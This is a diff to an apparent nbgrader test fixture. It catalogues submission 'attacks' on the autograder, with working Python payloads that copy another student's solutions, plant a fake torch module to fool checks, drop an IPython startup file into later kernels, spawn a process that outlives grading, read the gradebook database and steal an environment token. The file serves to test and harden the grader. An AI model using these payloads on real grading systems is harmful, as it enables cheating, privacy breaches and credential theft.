@@ -1,25 +1,32 @@
 """Answers that know nothing of the exercise, and what stock nbgrader gives for them.
 
 Each is put below the wrong answers in the cell of `total`, so that it runs before every test.
-LOOT stands for a file of the attacker's own.
+LOOT stands for a file of the attacker's own, ROOT for the course's folder, PORT for a service's port.
+Bombs (memory, processes, disk) are left out: nbgrader has no limit, and the machine would suffer.
 """
 
 from __future__ import annotations
 
-from dataclasses import dataclass
+from dataclasses import dataclass, field
 
 SHELL = "from IPython import get_ipython\nshell = get_ipython()\n"
 
 
 @dataclass(frozen=True)
 class Attack:
-    """`wins`: the points that it gets; `leaks`: whether it carries a hidden test away."""
+    """`wins`: the points that it gets; `leaks`: whether it carries a hidden test away.
+
+    `proof`: what lies in the loot when grading is over, of an attack that does something else.
+    `files`: handed in beside the notebook.
+    """
 
     what: str
     code: str
     wins: float = 0.0
     leaks: bool = False
     tags: tuple[str, ...] = ()
+    proof: str = ""
+    files: dict[str, str] = field(default_factory=dict)
 
 
 ATTACKS = {
@@ -98,5 +105,55 @@ ATTACKS = {
         "threading.Thread(target=seek, daemon=True).start()\n"
         "def total(numbers):\n    time.sleep(0.3)",
         leaks=True,
+    ),
+    "others-work": Attack(
+        "another student's answers read and used",
+        "import json\n"
+        "for cell in json.load(open('ROOT/submitted/right/lab/lab.ipynb'))['cells']:\n"
+        "    if cell['metadata']['nbgrader']['solution']:\n"
+        "        exec(''.join(cell['source']))",
+        100,
+    ),
+    "planted-module": Attack(
+        "a torch.py handed in beside the notebook",
+        "",
+        50,
+        files={
+            "torch.py": "def ones(*args):\n    return 1\nfull = tensor = ones\n"
+            "def allclose(*args):\n    return True\n"
+        },
+    ),
+    "startup-file": Attack(
+        "a start-up file of IPython that runs in the kernels of later students",
+        "import os, pathlib\nfolder = pathlib.Path.home() / '.ipython/profile_default/startup'\n"
+        "folder.mkdir(parents=True, exist_ok=True)\n"
+        "(folder / '50-planted.py').write_text("
+        '\'open("LOOT", "a").write("in the kernel of another")\')',
+        proof="in the kernel of another",
+    ),
+    "outlives": Attack(
+        "a process that goes on when grading is over",
+        "import os, subprocess\n"
+        "wait = f'while kill -0 {os.getppid()}; do sleep 0.2; done; echo outlived > LOOT'\n"
+        "subprocess.Popen(['sh', '-c', wait], start_new_session=True, stderr=subprocess.DEVNULL)",
+        proof="outlived",
+    ),
+    "gradebook": Attack(
+        "the class list read from the gradebook",
+        "import sqlite3\nbook = sqlite3.connect('file:ROOT/gradebook.db?mode=ro', uri=True)\n"
+        "open('LOOT', 'w').write(repr(book.execute('SELECT id FROM student').fetchall()))",
+        proof="right",
+    ),
+    "network": Attack(
+        "a service of the machine asked over the network",
+        "import urllib.request\n"
+        "said = urllib.request.urlopen('http://127.0.0.1:PORT/said').read().decode()\n"
+        "open('LOOT', 'w').write(said)",
+        proof="only for this machine",
+    ),
+    "environment": Attack(
+        "a token read from the grader's environment",
+        "import os\nopen('LOOT', 'w').write(os.environ['TOKEN'])",
+        proof="of-the-teacher",
     ),
 }
